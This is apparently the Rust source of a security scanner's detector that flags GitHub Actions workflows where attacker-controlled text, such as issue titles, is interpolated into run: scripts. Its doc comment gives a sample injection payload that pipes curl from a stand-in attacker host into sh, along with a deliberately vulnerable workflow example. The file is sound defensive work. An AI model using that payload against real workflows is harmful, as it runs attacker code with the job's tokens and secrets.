//! Text that somebody else writes becomes part of a script.
//!
//! ## What it finds
//!
//! An expression such as `${{ github.event.issue.title }}` in a `run:` script of
//! a workflow or composite action, or in the input of an action that runs it as
//! code, when outsiders, authors of commits or callers write its text. Variables
//! that the workflow sets itself (`${{ env.TITLE }}`) and outputs of steps and jobs
//! are followed, also of well-known actions that repeat file names, branches or
//! texts of issues. Conditions and comparisons, which do not become text, are not
//! found.
//!
//! ## Why that is bad
//!
//! Expressions are replaced before the shell reads the script: a title such as `"; curl evil.example | sh; "` is not printed but run, with the token and the secrets of the job.
//!
//! ## Example
//!
//! ```yaml
//! on: issues
//! jobs:
//!   greet:
//!     runs-on: ubuntu-latest
//!     steps:
//!       - run: echo "New issue: ${{ github.event.issue.title }}"
//! ```
//!
//! ## Limits
//!
//! What programs print and files hold is not followed. Which inputs of actions are
//! code, and which outputs repeat text, is known for common actions only. An input is found as `low`: whether it is
//! outsiders' text is decided by those who call.
//!
//! ## References
//!
//! - <https://docs.github.com/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks>
//! - <https://securitylab.github.com/resources/github-actions-untrusted-input/>

use laocoon_report::{Confidence, Severity};
use laocoon_syntax::{FileTree, Kind};

use super::settings::Setting;
use super::untrusted::Writer;
use super::workflow::{self, Step, Workflow};
use crate::{About, Detector, Findings, Interest, TextFile};

/// The detector.
pub struct UntrustedInputInScript;

static ABOUT: About = About {
    id: "pipeline/untrusted-input-in-script",
    severity: Severity::High,
    confidence: Confidence::High,
    cwe: &["CWE-94", "CWE-78"],
    remediation: "Put the expression into `env:` of the step and use the variable in the script, quoted: `\"$TITLE\"`.",
    source: include_str!("untrusted_input_in_script.rs"),
};

const CODE_INPUTS: &str = include_str!("code_inputs.txt");

impl Detector for UntrustedInputInScript {
    fn about(&self) -> &'static About {
        &ABOUT
    }

    fn interest(&self) -> Interest {
        Interest::ANY
            .named(workflow::FILES)
            .with_words(&["${{"])
            .with_kinds(&[Kind::Dict])
    }

    fn look_at_tree(&self, file: &TextFile<'_>, _: &FileTree, findings: &mut Findings<'_>) {
        let workflow = Workflow::of(file);
        let Some(workflow) = workflow.as_ref() else {
            return;
        };
        for job in workflow.jobs() {
            for step in job.steps() {
                for code in code_of(step) {
                    for (span, written) in code.expressions(file.text()) {
                        let contexts = written.expression.flowing();
                        let behind = contexts.iter().flat_map(|c| workflow.behind(c, job, step));
                        let worst = behind
                            .filter_map(|context| Some((workflow.writer_of(&context)?, context)))
                            .min();
                        if let Some((writer, context)) = worst {
                            let (severity, confidence, who) = judged(writer);
                            findings
                                .at(
                                    span,
                                    format!("`{context}` is text that {who}, and becomes part of this script"),
                                )
                                .severity(severity)
                                .confidence(confidence)
                                .evidence("expression", written.text);
                        }
                    }
                }
            }
        }
    }
}

/// What a step runs as code.
fn code_of(step: Step<'_>) -> Vec<&Setting> {
    let inputs = CODE_INPUTS.lines().filter_map(|line| {
        let (action, input) = line.split_once(' ')?;
        step.calls(action).then(|| step.input(input)).flatten()
    });
    step.run().into_iter().chain(inputs).collect()
}

fn judged(writer: Writer) -> (Severity, Confidence, &'static str) {
    match writer {
        Writer::OutsiderOfPrivilegedRun => (Severity::High, Confidence::High, "anybody can write"),
        Writer::Outsider => (Severity::Medium, Confidence::High, "anybody can write"),
        Writer::Committer => (
            Severity::Medium,
            Confidence::Medium,
            "the author of a commit writes",
        ),
        Writer::Insider => (
            Severity::Low,
            Confidence::Medium,
            "those who start or call this can choose",
        ),
    }
}
